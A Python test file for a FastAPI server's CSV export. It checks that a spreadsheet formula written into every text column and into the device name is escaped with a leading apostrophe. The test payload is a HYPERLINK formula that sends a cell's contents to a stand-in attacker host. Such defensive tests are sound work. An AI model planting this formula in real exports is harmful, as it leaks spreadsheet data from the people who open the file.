"""Formula escaping on the server: a formula in every text column of the CSV export reaches the file as text."""

from __future__ import annotations

import csv
from pathlib import Path

from fastapi.testclient import TestClient
from server_helpers import EnrolledDevice, batch, signature
from sqlalchemy import String, text
from sqlalchemy.engine import Engine
from sqlmodel.sql.sqltypes import AutoString

from server import export
from server.database import write_session
from server.models import Device, StoredSignature

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def test_every_text_cell_of_the_server_export_is_escaped(client: TestClient, published: Engine,
                                                         device: EnrolledDevice, tmp_path: Path) -> None:
    sent = signature(seq=1)
    assert client.post(device.batches, json=batch([sent]), headers=device.headers).json()["results"][0]["outcome"] == "created"
    # Every text column a row can hold, cut to the column's length (each cut still starts with "=").
    # The keys (id, device_id) stay: the export joins on them; they are server-checked UUIDs.
    columns = {c.name: c.type.length for c in StoredSignature.__table__.columns  # type: ignore[attr-defined]
               if isinstance(c.type, String | AutoString) and c.name in export.COLUMNS
               and c.name not in ("id", "device_id")}
    assert {"given_name", "email", "comment", "locale", "content_hash", "letter_sha256"} <= set(columns)
    with write_session(published) as session:
        session.execute(text(f"UPDATE signature SET {', '.join(f'{c} = :{c}' for c in columns)} WHERE id = :id"),
                        {**{c: FORMULA[:n] if n else FORMULA for c, n in columns.items()}, "id": sent["id"]})
        session.execute(text("UPDATE device SET name = :name WHERE id = :id"),
                        {"name": FORMULA[:Device.__table__.c.name.type.length], "id": device.id})  # type: ignore[attr-defined]
        session.commit()
    target = tmp_path / "export.csv"
    export.export_csv(published, target)
    with target.open(encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    for name in (*columns, "device_name"):
        assert row[name].startswith("'="), (name, row[name])
